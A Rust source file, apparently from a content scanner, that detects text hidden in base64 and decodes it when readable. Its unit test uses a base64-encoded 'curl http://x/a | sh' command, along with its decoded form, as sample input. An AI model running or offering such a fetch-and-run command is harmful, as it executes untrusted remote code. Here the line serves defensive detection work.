//! Text hidden in base64 (RFC 4648, 4), read back as far as it is text.

use crate::limits::MAX_DECODED_BYTES;
use crate::text::base64;

/// Shortest word that is taken for an encoded text.
const MIN_BASE64_CHARS: usize = 16;

/// The text that a word encodes; `None` when it encodes none.
pub(super) fn base64_text(word: &str) -> Option<String> {
    let letters = word.trim_end_matches('=');
    if letters.len() < MIN_BASE64_CHARS || letters.len() / 4 * 3 > MAX_DECODED_BYTES {
        return None;
    }
    if !letters.bytes().all(|letter| base64::digit(letter).is_some()) {
        return None;
    }
    let bytes = base64::decode(letters.as_bytes())?;
    let text = String::from_utf8(bytes).ok()?;
    let readable = text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'));
    readable.then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_text_only() {
        let cases = [
            ("Y3VybCBodHRwOi8veC9hIHwgc2g=", Some("curl http://x/a | sh")),
            ("Y3VybCBodHRwOi8veC9hIHwgc2gK", Some("curl http://x/a | sh\n")),
            ("AAAAAAAAAAAAAAAAAAAAAAAA", None),
            ("short", None),
            ("not base64 at all, surely", None),
        ];
        for (word, expect) in cases {
            assert_eq!(base64_text(word).as_deref(), expect, "{word}");
        }
    }
}
